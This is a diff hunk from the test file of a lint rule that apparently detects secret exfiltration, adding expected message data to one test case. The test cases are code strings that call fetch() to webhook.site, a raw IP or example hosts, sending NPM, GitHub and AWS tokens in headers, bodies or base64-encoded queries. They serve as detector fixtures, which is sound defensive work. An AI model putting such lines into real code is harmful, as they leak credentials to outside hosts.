@@ -283,7 +283,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://webhook.site/abc", { headers: { "x-data": process.env.NPM_TOKEN } });', errors: [{ messageId: 'hostile' }] },
     { code: 'fetch("https://webhook.site/abc", { method: "POST", body: process.env.NPM_TOKEN });', errors: [{ messageId: 'hostile' }] },
     { code: 'fetch("http://203.0.113.7/", { headers: { authorization: process.env.NPM_TOKEN } });', errors: [{ messageId: 'hostile' }] },
-    { code: 'fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several' }] },
+    { code: 'fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several', data: { name: 'NPM_TOKEN, AWS_SECRET_ACCESS_KEY', sink: 'fetch()' } }] },
     { code: 'const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = process.env; fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several' }] },
     { code: 'fetch("https://t.example-service.com", { method: "POST", body: btoa(process.env.NPM_TOKEN) });', errors: [{ messageId: 'encoded' }] },
     { code: 'fetch("https://t.example-service.com/?d=" + Buffer.from(process.env.NPM_TOKEN).toString("base64"));', errors: [{ messageId: 'encoded' }] },
